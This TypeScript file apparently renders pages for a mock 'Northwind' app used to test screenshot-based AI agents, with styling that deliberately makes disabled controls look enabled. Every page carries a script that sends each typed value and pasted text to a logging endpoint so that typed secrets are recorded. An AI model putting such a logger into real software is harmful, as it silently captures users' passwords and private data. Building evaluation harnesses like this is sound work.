/** HTML for the task app: one layout, plain semantic elements so the accessibility tree names them. */

export function esc(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

const NAV: Array<[string, string]> = [
  ["/dashboard", "Dashboard"],
  ["/inbox", "Inbox"],
  ["/reports/new", "Reports"],
  ["/support/tickets/8812", "Support"],
  ["/shop/cart", "Shop"],
  ["/settings", "Settings"],
];

/*
 * Deliberately flat styling: a disabled control looks like an enabled one (a screenshot agent's
 * classic failure: pixels don't say why a dropdown won't open), and nothing animates except what a task wants.
 */
const CSS = `
*{box-sizing:border-box}
body{margin:0;font:16px/1.45 "DejaVu Sans",Arial,sans-serif;color:#1d2330;background:#f4f5f7}
header{display:flex;align-items:center;gap:22px;padding:12px 24px;background:#25324a;color:#fff}
header strong{font-size:18px;margin-right:18px}
header nav{display:flex;gap:22px}
header a{color:#dfe6f3;text-decoration:none}
main{max-width:880px;margin:24px auto;padding:24px 32px;background:#fff;border:1px solid #d9dde5;border-radius:6px}
h1{font-size:24px;margin:0 0 16px}
label{display:block;margin:12px 0 4px;font-weight:600}
input[type=text]{width:360px;padding:8px 10px;font:inherit;border:1px solid #98a2b3;border-radius:4px}
textarea{width:100%;height:90px;padding:8px 10px;font:inherit;border:1px solid #98a2b3;border-radius:4px}
button,.button{display:inline-block;padding:9px 18px;font:inherit;border:1px solid #2f5fb3;border-radius:4px;
  background:#3a6fd0;color:#fff;cursor:pointer;text-decoration:none}
button.plain{background:#fff;color:#1d2330;border-color:#98a2b3}
button:disabled{cursor:default}
.radio{display:flex;align-items:center;gap:8px;margin:8px 0;font-weight:400}
.toast{position:fixed;right:24px;bottom:24px;padding:14px 20px;background:#1f7a3d;color:#fff;border-radius:6px}
.muted{color:#5b6475}
.card{border:1px solid #d9dde5;border-radius:6px;padding:12px 16px;margin:12px 0}
`;

/** Every field's value and every paste go to /api/field-log, so a secret typed anywhere is recorded. */
const FIELD_LOG = `
(function(){
  var timers = {};
  function send(kind, name, value){
    fetch("/api/field-log",{method:"POST",headers:{"content-type":"application/json"},
      body:JSON.stringify({kind:kind,field:name,value:value})});
  }
  document.addEventListener("input",function(e){
    var t=e.target; if(!t||t.value===undefined) return;
    var name=t.name||t.id||"field";
    clearTimeout(timers[name]); timers[name]=setTimeout(function(){send("typed",name,t.value)},120);
  });
  document.addEventListener("paste",function(e){
    var t=e.target; var text=(e.clipboardData&&e.clipboardData.getData("text"))||"";
    send("pasted",(t&&(t.name||t.id))||"page",text);
  });
})();
`;

export function page(title: string, body: string, script = ""): string {
  const nav = NAV.map(([href, name]) => `<a href="${href}">${name}</a>`).join("");
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${esc(title)} · Northwind</title>
<style>${CSS}</style></head>
<body><header><strong>Northwind</strong><nav aria-label="Main">${nav}</nav></header>
<main>${body}</main>
<script>${FIELD_LOG}</script>${script ? `<script>${script}</script>` : ""}
</body></html>`;
}

/** Client helper every page script can use: POST JSON, then show a toast with the server's message. */
export const POST_AND_TOAST = `
function postJson(url, data){
  return fetch(url,{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(data)})
    .then(function(r){return r.json()});
}
function toast(text){
  var t=document.createElement("div"); t.className="toast"; t.setAttribute("role","status");
  t.textContent=text; document.body.appendChild(t);
}
`;
